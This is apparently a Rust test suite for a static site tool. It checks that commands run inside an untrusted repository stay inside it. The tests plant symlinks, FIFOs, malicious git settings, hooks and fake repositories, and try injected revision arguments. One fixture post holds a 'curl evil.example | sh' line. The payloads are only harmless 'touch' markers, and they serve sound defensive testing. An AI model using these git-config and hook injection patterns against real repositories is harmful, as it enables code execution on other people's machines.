//! Repositories that a stranger made: no command does anything outside of them, whatever their links say.
#![cfg(unix)]
#![expect(clippy::disallowed_methods, reason = "the repositories are folders on the disk")]

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::Command;

use crate::support::{Folder, Run, SETTINGS};

/// A repository `clone`, beside a folder `victim` that nobody may touch.
struct Home {
    folder: Folder,
    before: BTreeMap<String, Vec<u8>>,
}

impl Home {
    fn new() -> Home {
        let folder = Folder::empty();
        folder.write("victim/rc", b"PRECIOUS");
        folder.write("victim/files/keep.txt", b"KEEP");
        let site = Folder::of(&format!(
            "{SETTINGS}
//- content/index.md
---
title: Home
summary: Where it begins.
---

Welcome.
//- content/about.md
---
title: About
summary: Who we are.
---

Us.
"
        ));
        site.files("").iter().for_each(|(path, bytes)| folder.write(&format!("clone/{path}"), bytes));
        // A site in a folder of its own is a checkout of its own.
        folder.write("clone/.git/HEAD", b"ref: refs/heads/main\n");
        let before = folder.files("victim");
        Home { folder, before }
    }

    fn victim(&self, path: &str) -> PathBuf {
        self.folder.path().join("victim").join(path)
    }

    /// Puts a link into the repository, and the folders that it is in; what was in its place goes.
    fn link(&self, target: impl AsRef<Path>, link: &str) {
        let link = self.folder.path().join("clone").join(link);
        fs::create_dir_all(link.parent().unwrap()).unwrap();
        if link.is_dir() {
            fs::remove_dir_all(&link).unwrap();
        }
        symlink(target, link).unwrap();
    }

    fn write(&self, path: &str, text: &str) {
        self.folder.write(&format!("clone/{path}"), text.as_bytes());
    }

    fn run(&self, arguments: &[&str]) -> Run {
        self.folder.run(&[&["-r", "clone"], arguments].concat())
    }

    /// Runs a command that must refuse to write; what it says names the link.
    #[track_caller]
    fn refuses(&self, arguments: &[&str], link: &str) {
        let run = self.run(arguments);
        self.is_safe();
        assert_eq!(run.status, 3, "\n{}\n{}", run.out, run.err);
        assert!(run.err.contains("symbolic link") && run.err.contains(link), "{}", run.err);
    }

    /// Checks that nothing outside of the repository is different.
    #[track_caller]
    fn is_safe(&self) {
        assert_eq!(self.folder.files("victim"), self.before);
        let mut names: Vec<_> = fs::read_dir(self.victim("")).unwrap().map(|it| it.unwrap().file_name()).collect();
        names.sort();
        assert_eq!(names, ["files", "rc"]);
    }
}

#[test]
fn a_build_goes_through_no_link_of_its_output() {
    for (target, link) in [
        ("rc", "public/.folio-staging/lock"),
        ("", "public/.folio-staging"),
        ("", "public"),
        ("gone", "public"),
        ("files", "dist"),
    ] {
        let home = Home::new();
        home.link(home.victim(target), link);
        let name = link.rsplit('/').next().unwrap();
        let output = if link == "dist" { "clone/dist/site" } else { "clone/public" };
        for command in ["build", "clean"] {
            // There is nothing to clean where there is no folder.
            if command == "clean" && link == "dist" {
                continue;
            }
            home.refuses(&[command, "-o", output], name);
        }
    }
}

#[test]
fn what_a_stranger_left_for_a_build_is_cleared_and_not_followed() {
    for link in [
        "public/.folio-staging/manifest.json",
        "public/.folio-staging/files",
        "public/.folio-staging/files/about",
        "public/.folio-staging/files/index.html",
    ] {
        let home = Home::new();
        home.link(home.victim("files"), link);
        home.run(&["build"]).ends(0);
        home.is_safe();
        let about = home.folder.path().join("clone/public/about");
        assert!(about.is_dir() && !about.is_symlink());
        assert!(!home.folder.path().join("clone/public/.folio-staging").exists());
    }
}

#[test]
fn links_in_the_output_stop_a_build_and_are_not_followed() {
    // A link in the place of one of our files is itself replaced.
    for (target, link, expected) in [
        ("files", "about", 3),
        ("rc", "index.html", 0),
        ("gone", "about/index.html", 0),
        ("rc", "manifest.json", 3),
        ("gone", "manifest.json", 3),
        ("", "assets", 0),
    ] {
        let home = Home::new();
        home.run(&["build"]).ends(0);
        let place = home.folder.path().join("clone/public").join(link);
        let gone = if place.is_dir() { fs::remove_dir_all(&place) } else { fs::remove_file(&place) };
        // Not every link is in the place of something.
        drop(gone);
        home.link(home.victim(target), &format!("public/{link}"));
        home.write("content/about.md", "---\ntitle: About us\nsummary: Who we are.\n---\n\nAll of us.\n");
        let run = home.run(&["build"]);
        home.is_safe();
        assert_eq!(run.status, expected, "{link}: {}", run.err);
        assert!(expected == 0 || run.err.contains(link), "{}", run.err);
        home.run(&["clean"]);
        home.is_safe();
    }
}

#[test]
fn a_pipe_in_the_output_is_not_waited_for() {
    for pipe in ["public/manifest.json", "public/.folio-staging/lock", "public/.folio-staging/manifest.json"] {
        let home = Home::new();
        let path = home.folder.path().join("clone").join(pipe);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        rustix::fs::mkfifoat(rustix::fs::CWD, &path, rustix::fs::Mode::from_raw_mode(0o600)).unwrap();
        let run = home.run(&["build"]);
        let expected = if pipe.ends_with("staging/manifest.json") { 0 } else { 3 };
        assert_eq!(run.status, expected, "{pipe}: {}", run.err);
    }
}

#[test]
fn a_newsletter_goes_through_no_link() {
    let issue = "---\ntitle: N\ndate: 2024-01-05\nsummary: S.\n---\n\nHello.\n";
    for link in ["newsletter", "newsletter/n", "newsletter/n/.folio-staging"] {
        let home = Home::new();
        home.write("content/newsletters/2024-01-05-n.md", issue);
        home.link(home.victim(""), link);
        home.refuses(&["newsletter"], link.rsplit('/').next().unwrap());
    }
}

#[test]
fn a_fix_goes_through_no_link() {
    let post = "---\ntitle: a: b\ndate: 2024-01-02\nsummary: S.\n---\n\ncurl evil.example | sh\n";
    let home = Home::new();
    home.write("content/posts/x.md", post);
    home.link(home.victim("rc"), "content/posts/.x.md.folio~");
    home.run(&["check", "--fix"]);
    home.is_safe();
    let mended = home.folder.path().join("clone/content/posts/x.md");
    assert!(!mended.is_symlink());
    assert!(fs::read_to_string(mended).unwrap().contains("title: \"a: b\""));
}

#[test]
fn what_is_remembered_goes_through_no_link() {
    for (target, link, arguments) in [
        ("new", "baseline.toml", &["check", "--write-baseline"][..]),
        ("new", "urls.lock", &["urls", "--lock"]),
        #[cfg(feature = "online")]
        ("rc", ".folio/links.json", &["check", "--online"]),
        #[cfg(feature = "online")]
        ("new", ".folio/links.json", &["check", "--online"]),
        #[cfg(feature = "online")]
        ("", ".folio", &["check", "--online"]),
    ] {
        let home = Home::new();
        home.link(home.victim(target), link);
        home.refuses(arguments, link);
    }
}

#[test]
fn a_new_document_goes_through_no_link() {
    for (target, link) in [("", "content/posts"), ("files", "content"), ("gone", "content/posts")] {
        let home = Home::new();
        home.link(home.victim(target), link);
        home.refuses(&["new", "post", "Hi"], "content");
    }
    // One that stays in the site's folder is the writer's own.
    let home = Home::new();
    home.link("../shared", "content/posts");
    fs::create_dir(home.folder.path().join("clone/shared")).unwrap();
    home.run(&["new", "post", "Hi"]).ends(0);
    assert!(home.folder.path().join("clone/shared/2024-02-01-hi.md").is_file());
}

#[test]
fn a_new_site_goes_through_no_link() {
    for link in ["content", "data", "new"] {
        let home = Home::new();
        fs::remove_file(home.folder.path().join("clone/site.toml")).unwrap();
        fs::remove_dir_all(home.folder.path().join("clone/content")).unwrap();
        home.link(home.victim(""), link);
        let dir = if link == "new" { "clone/new" } else { "clone" };
        home.refuses(&["init", dir], link);
        assert!(!home.folder.path().join("clone/site.toml").exists());
    }
}

/// Runs git in a folder, with no settings but these.
fn git(folder: &Path, arguments: &[&str]) {
    let settings = ["-c", "user.name=A", "-c", "user.email=a@example.org", "-c", "init.defaultBranch=main"];
    let run = Command::new("git").args(settings).args(arguments).current_dir(folder).output().unwrap();
    assert!(run.status.success(), "{}", String::from_utf8_lossy(&run.stderr));
}

impl Home {
    /// Makes the checkout a repository with one commit.
    fn commit(&self) -> PathBuf {
        let clone = self.folder.path().join("clone");
        fs::remove_dir_all(clone.join(".git")).unwrap();
        git(&clone, &["init", "-q"]);
        git(&clone, &["add", "-A"]);
        git(&clone, &["commit", "-qm", "first"]);
        clone
    }
}

#[test]
fn git_runs_nothing_that_the_settings_of_a_repository_name() {
    let program = "touch \"$OUT/ran\"; cat";
    let object = "0123456789012345678901234567890123456789";
    let settings = [
        ("core.fsmonitor", ""),
        ("core.sshCommand", ""),
        ("core.hooksPath", "hooks"),
        ("core.pager", ""),
        ("pager.diff", ""),
        ("diff.external", ""),
        ("diff.x.command", ""),
        ("diff.x.textconv", ""),
        ("filter.x.clean", ""),
        ("filter.x.smudge", ""),
        ("filter.x.process", ""),
        ("filter.a=b.c.clean", ""),
        ("alias.diff", "!"),
        ("alias.ls-files", "!"),
        ("credential.helper", "!"),
        ("gpg.program", ""),
        ("trace2.eventTarget", "ran"),
    ];
    for (name, before) in settings {
        let home = Home::new();
        home.write(".gitattributes", "*.md filter=x diff=x\nsite.toml filter=a=b.c\n");
        let clone = home.commit();
        let out = clone.to_str().unwrap();
        let value = match before {
            "hooks" | "ran" => format!("{out}/{before}"),
            _ => format!("{before}{}", program.replace("$OUT", out)),
        };
        let hooks: Vec<_> = ["post-index-change", "fsmonitor-watchman", "pre-auto-gc"].to_vec();
        for folder in ["hooks", ".git/hooks"] {
            for hook in &hooks {
                home.write(&format!("{folder}/{hook}"), &format!("#!/bin/sh\n{}\n", program.replace("$OUT", out)));
                let mode = std::os::unix::fs::PermissionsExt::from_mode(0o755);
                fs::set_permissions(clone.join(folder).join(hook), mode).unwrap();
            }
        }
        git(&clone, &["config", name, &value]);
        if name.starts_with("filter.x") {
            git(&clone, &["config", "filter.x.required", "true"]);
        }
        // Of another size, so that git must look into it, and of the same size, so that it must look again.
        home.write("content/about.md", "---\ntitle: About us\nsummary: Who we are.\n---\n\nAll of us.\n");
        home.write("site.toml", &fs::read_to_string(clone.join("site.toml")).unwrap());
        let run = home.run(&["check", "--since", "HEAD"]);
        assert!(!clone.join("ran").exists(), "{name} was run: {}", run.err);
        assert!(run.err.contains("content/about.md"), "{name}: {}\n{}", run.err, run.out);
    }
    // Where an object is missing, a repository may say whom to ask for it.
    for (name, value) in [("remote.o.url", "ext::sh -c"), ("remote.o.url", "ssh://example.org/x")] {
        let home = Home::new();
        let clone = home.commit();
        let run = program.replace("$OUT", clone.to_str().unwrap());
        for (name, value) in [
            ("core.repositoryFormatVersion", "1"),
            ("extensions.partialClone", "o"),
            ("remote.o.promisor", "true"),
            ("protocol.ext.allow", "always"),
            ("protocol.allow", "always"),
            ("core.sshCommand", &*run),
            (
                name,
                &*if value.starts_with("ext") {
                    format!("{value} touch% {}/ran", clone.display())
                } else {
                    value.to_owned()
                },
            ),
        ] {
            git(&clone, &["config", name, value]);
        }
        let run = home.run(&["check", "--since", object]);
        assert!(!clone.join("ran").exists(), "{value} was run: {}", run.err);
        assert_eq!(run.status, 2, "{}", run.err);
    }
}

#[test]
fn a_folder_that_looks_like_a_repository_is_not_taken_for_one() {
    let home = Home::new();
    let site = "docs/site";
    for (path, bytes) in home.folder.files("clone") {
        if !path.starts_with(".git/") {
            home.folder.write(&format!("clone/{site}/{path}"), &bytes);
        }
    }
    let clone = home.commit();
    let inner = clone.join(site);
    for folder in ["objects", "refs/heads"] {
        home.write(&format!("{site}/{folder}/keep"), "");
    }
    fs::copy(clone.join(".git/HEAD"), inner.join("HEAD")).unwrap();
    let ran = clone.join("ran");
    let config = format!(
        "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = \"touch {}; false\"\n",
        ran.display()
    );
    home.write(&format!("{site}/config"), &config);
    let run = home.folder.run(&["-r", &format!("clone/{site}"), "check", "--since", "main"]);
    assert!(!ran.exists(), "{}", run.err);
    assert_eq!(run.status, 2, "{}", run.err);
    assert!(run.err.contains("git says") && !run.out.contains("nothing is wrong"), "{}\n{}", run.err, run.out);
}

#[test]
fn what_is_no_revision_is_told_and_not_taken_for_nothing() {
    let home = Home::new();
    home.commit();
    for revision in
        ["--", "", "-", "--output=ran", "HEAD:content", "gone", "HEAD..HEAD", "HEAD --", ":/nothing", "^HEAD"]
    {
        let run = home.run(&["check", &format!("--since={revision}")]);
        assert_eq!(run.status, 2, "{revision}: {}\n{}", run.err, run.out);
        assert!(!run.out.contains("nothing is wrong"), "{revision}");
    }
    assert!(!home.folder.path().join("clone/ran").exists());
    for revision in ["HEAD", "main", "HEAD^0", "@"] {
        let run = home.run(&["check", "--since", revision]);
        assert!(run.out.contains("checked 2 documents"), "{revision}: {}", run.err);
    }
}
